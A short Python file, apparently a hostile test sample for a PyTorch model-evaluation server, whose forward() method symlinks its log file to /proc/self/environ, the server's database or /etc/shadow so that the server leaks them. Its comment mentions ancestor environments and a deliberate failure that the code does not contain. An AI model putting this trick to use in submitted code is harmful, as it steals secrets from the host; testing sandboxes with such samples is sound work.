# Hostile: replaces its log file (whose tail the server reads and puts in the response,
# and so in kforge.db) with links to the server's secrets: its environment, its store,
# its ancestors' environments, then fails so that the tail is read.
import os

import torch

TARGETS = ["/proc/self/environ", "/proc/self/cwd/kforge.db", "/etc/shadow"]


class ModelNew(torch.nn.Module):
    def forward(self, x):
        log = os.path.abspath("log.txt")
        for target in TARGETS:
            try:
                os.unlink(log)
            except OSError:
                pass
            try:
                os.symlink(target, log)
                break
            except OSError:
                continue
        return torch.zeros_like(x)
